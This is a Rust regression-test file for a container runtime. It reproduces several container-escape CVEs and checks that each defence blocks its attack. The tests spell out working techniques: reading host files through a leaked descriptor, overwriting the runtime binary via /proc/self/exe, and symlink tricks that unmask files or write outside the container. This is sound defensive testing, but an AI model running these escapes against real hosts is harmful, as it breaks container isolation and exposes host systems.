//! Attacks on the runtime. Each fails on the ordinary build, and succeeds on one whose single defence against it is
//! switched off (`--features weaken`, `RBOX_WEAKEN=<CVE>`): so the test shows that it is this defence that holds.

use crate::support::{Oci, Output, built_with, need};

/// Whether the attack got through.
#[derive(Debug, PartialEq, Eq)]
enum Outcome {
    Held,
    Broken(String),
}

/// Run an attack on the runtime as it is, then on one without the defence of this CVE.
///
/// `act` is given a fresh runtime and a way to call it (`run`, with the bundle it made), and says what came of it.
#[track_caller]
fn attack(cve: &str, act: impl Fn(&mut Oci) -> Outcome) {
    let mut strong = Oci::new();
    let outcome = act(&mut strong);
    assert_eq!(outcome, Outcome::Held, "{cve}: the attack got through");
    let mut weak = Oci::with_program(&built_with("weaken", "rbox-runtime"), &[("RBOX_WEAKEN", cve)]);
    let outcome = act(&mut weak);
    assert_ne!(outcome, Outcome::Held, "{cve}: without its defence the attack has to get through, or it tests nothing");
}

/// The container said that it holds something of the host.
fn leaked(output: &Output, secret: &str) -> Outcome {
    if output.stdout.contains(secret) { Outcome::Broken(output.stdout.clone()) } else { Outcome::Held }
}

#[test]
fn cve_2024_21626_a_working_directory_that_is_a_leaked_descriptor() {
    need!(Root, OurRuntime);
    attack("CVE-2024-21626", |oci| {
        // The runtime is started with a descriptor of the host's tree open, as runc's own leak was.
        let secret = oci.host.path("secret");
        std::fs::write(&secret, "the host's own").unwrap();
        let mut all = String::new();
        for fd in 3..12 {
            let bundle = oci.bundle(|spec| {
                spec["process"]["cwd"] = serde_json::json!(format!("/proc/self/fd/{fd}"));
                let script = "cat secret ../secret 2>/dev/null; pwd -P";
                spec["process"]["args"] = serde_json::json!(["/bin/sh", "-c", script]);
            });
            all += &oci.run_with_descriptor(&bundle, &oci.host.path("")).stdout;
        }
        let output = Output { stdout: all, stderr: String::new(), command: "run".to_owned(), code: 0 };
        leaked(&output, "the host's own")
    });
}

#[test]
fn cve_2019_5736_overwriting_the_runtime_through_proc_self_exe() {
    need!(Root, OurRuntime);
    attack("CVE-2019-5736", |oci| {
        // The program to be executed is /proc/self/exe: the runtime executes itself inside, and a container's process
        // holds its file open. It waits at a fifo (its log) until the attacker has it, then ends: the file is no
        // longer busy, and can be opened again for writing through the attacker's descriptor.
        let program = oci.use_own_copy();
        let script = "mkfifo /tmp/log; echo ready
            while :; do for process in /proc/[0-9]*; do
                # Before its execve the process hides its program: asked in a subshell, for a refusal ends a shell.
                if grep -q nobod[y] $process/cmdline && (: <$process/exe); then exec 9<$process/exe; break 2; fi
            done 2>/dev/null; done
            cat /tmp/log >/dev/null; sleep 1; echo overwritten >/proc/self/fd/9; touch /tmp/done; sleep 60";
        let bundle = oci.running(|spec| {
            spec["root"]["readonly"] = serde_json::json!(false);
            spec["process"]["args"] = serde_json::json!(["/bin/sh", "-c", script]);
        });
        let at = |name: &str| bundle.rootfs().join("tmp").join(name);
        oci.call(&["exec", &bundle.id, "/proc/self/exe", "--log", "/tmp/log", "state", "nobody"]);
        assert!(comes(&at("done")), "the attacker did not come to his end");
        let text = std::fs::read(&program).unwrap();
        if text.starts_with(b"overwritten") { Outcome::Broken(program.display().to_string()) } else { Outcome::Held }
    });
}

/// Wait for a file, at most a minute.
fn comes(path: &std::path::Path) -> bool {
    (0..600).any(|_| {
        std::thread::sleep(std::time::Duration::from_millis(100));
        path.exists()
    })
}

#[test]
fn cve_2025_52565_a_link_in_the_place_of_the_terminal() {
    need!(Root, OurRuntime);
    attack("CVE-2025-52565", |oci| {
        // /dev/pts is the attacker's folder: its multiplexer is real, its terminal is a link to what he wants to see
        // as /dev/console before it is masked.
        let bundle = oci.bundle(|spec| {
            let mounts = spec["mounts"].as_array_mut().unwrap();
            mounts.retain(|mount| mount["destination"] != "/dev/pts");
            mounts.push(serde_json::json!({ "destination": "/real", "type": "devpts", "source": "devpts",
                "options": ["newinstance", "ptmxmode=0666", "mode=0620"] }));
            mounts.push(serde_json::json!({ "destination": "/dev/pts", "type": "bind", "source": "rootfs/false",
                "options": ["bind"] }));
            spec["linux"]["maskedPaths"] = serde_json::json!(["/trap"]);
            spec["process"]["terminal"] = serde_json::json!(true);
            spec["process"]["args"] = serde_json::json!(["/bin/sh", "-c", "cat /dev/console >/tmp/seen"]);
            spec["root"]["readonly"] = serde_json::json!(false);
        });
        let rootfs = bundle.rootfs();
        std::fs::create_dir(rootfs.join("false")).unwrap();
        std::os::unix::fs::symlink("/real/ptmx", rootfs.join("false/ptmx")).unwrap();
        std::os::unix::fs::symlink("/trap", rootfs.join("false/0")).unwrap();
        std::fs::write(rootfs.join("trap"), "what the mask hides").unwrap();
        let socket = oci.host.path("console.sock");
        let _listener = std::os::unix::net::UnixListener::bind(&socket).unwrap();
        // Refused by one build, run by the other.
        oci.create_with(&bundle, &["--console-socket", &socket.display().to_string()]);
        oci.call(&["start", &bundle.id]);
        std::thread::sleep(std::time::Duration::from_millis(500));
        oci.call(&["delete", "--force", &bundle.id]);
        let seen = std::fs::read_to_string(rootfs.join("tmp/seen")).unwrap_or_default();
        if seen.contains("what the mask hides") { Outcome::Broken(seen) } else { Outcome::Held }
    });
}

#[test]
fn cve_2025_52881_a_setting_that_is_written_to_another_file() {
    need!(Root, OurRuntime);
    attack("CVE-2025-52881", |oci| {
        let bundle = oci.bundle(|spec| {
            spec["mounts"].as_array_mut().unwrap().retain(|mount| mount["destination"] != "/proc");
            spec["linux"]["maskedPaths"] = serde_json::json!([]);
            spec["linux"]["readonlyPaths"] = serde_json::json!([]);
            spec["linux"]["sysctl"] = serde_json::json!({ "net.ipv4.ip_forward": "1" });
            spec["process"]["args"] = serde_json::json!(["/bin/true"]);
            spec["root"]["readonly"] = serde_json::json!(false);
        });
        let rootfs = bundle.rootfs();
        std::fs::create_dir_all(rootfs.join("proc/sys/net/ipv4")).unwrap();
        std::os::unix::fs::symlink("/victim", rootfs.join("proc/sys/net/ipv4/ip_forward")).unwrap();
        std::fs::write(rootfs.join("victim"), "untouched").unwrap();
        oci.run(&bundle);
        let text = std::fs::read_to_string(rootfs.join("victim")).unwrap();
        if text == "untouched" { Outcome::Held } else { Outcome::Broken(text) }
    });
}

#[test]
fn cve_2021_30465_a_mount_point_that_becomes_a_link() {
    need!(Root, OurRuntime);
    attack("CVE-2021-30465", |oci| {
        let outside = oci.host.path("outside");
        std::fs::create_dir(&outside).unwrap();
        let bundle = oci.bundle(|spec| {
            let mount =
                serde_json::json!({ "destination": "/swap/in", "type": "tmpfs", "source": "trap", "options": [] });
            spec["mounts"].as_array_mut().unwrap().push(mount);
        });
        // The other container of the race, made certain: the component is a link that leads out of the root.
        std::os::unix::fs::symlink("../".repeat(12) + &outside.display().to_string(), bundle.rootfs().join("swap"))
            .unwrap();
        oci.run(&bundle);
        let made = std::fs::read_dir(&outside).unwrap().count();
        if made == 0 { Outcome::Held } else { Outcome::Broken(format!("{made} entries were made outside")) }
    });
}

#[test]
fn cve_2023_27561_proc_that_is_a_link() {
    need!(Root, OurRuntime);
    attack("CVE-2023-27561", |oci| {
        // The kernel's proc would be mounted wherever the image says.
        let bundle = oci.bundle_of(&["/bin/cat", "/elsewhere/self/mountinfo"]);
        std::fs::remove_dir(bundle.rootfs().join("proc")).unwrap();
        std::fs::create_dir(bundle.rootfs().join("elsewhere")).unwrap();
        std::os::unix::fs::symlink("elsewhere", bundle.rootfs().join("proc")).unwrap();
        leaked(&oci.run(&bundle), " /elsewhere ")
    });
}

#[test]
fn cve_2026_41579_dev_that_is_a_link() {
    need!(Root, OurRuntime);
    attack("CVE-2026-41579", |oci| {
        // /dev leads into a volume: the device nodes would be made in a directory of the host's.
        let outside = oci.host.path("outside");
        std::fs::create_dir_all(&outside).unwrap();
        let bundle = oci.bundle(|spec| {
            let mounts = spec["mounts"].as_array_mut().unwrap();
            mounts.retain(|mount| !mount["destination"].as_str().unwrap().starts_with("/dev"));
            mounts.push(serde_json::json!({ "destination": "/volume", "type": "bind", "source": outside,
                "options": ["bind"] }));
            spec["process"]["args"] = serde_json::json!(["/bin/true"]);
        });
        std::fs::remove_dir_all(bundle.rootfs().join("dev")).unwrap();
        std::os::unix::fs::symlink("volume", bundle.rootfs().join("dev")).unwrap();
        oci.run(&bundle);
        let made = std::fs::read_dir(&outside).unwrap().count();
        if made == 0 { Outcome::Held } else { Outcome::Broken(format!("{made} nodes were made on the host")) }
    });
}

#[test]
fn cve_2025_31133_a_false_dev_null_as_the_mask() {
    need!(Root, OurRuntime);
    attack("CVE-2025-31133", |oci| {
        // The container's /dev is a folder of the attacker, and its null a link to a file that should be masked.
        let bundle = oci.bundle(|spec| {
            spec["mounts"]
                .as_array_mut()
                .unwrap()
                .retain(|mount| !mount["destination"].as_str().unwrap().starts_with("/dev"));
            spec["linux"]["maskedPaths"] = serde_json::json!(["/etc/group"]);
            spec["process"]["args"] = serde_json::json!(["/bin/cat", "/etc/group"]);
        });
        std::fs::write(bundle.rootfs().join("trap"), "the attacker's own").unwrap();
        std::os::unix::fs::symlink("/trap", bundle.rootfs().join("dev/null")).unwrap();
        leaked(&oci.run(&bundle), "the attacker's own")
    });
}
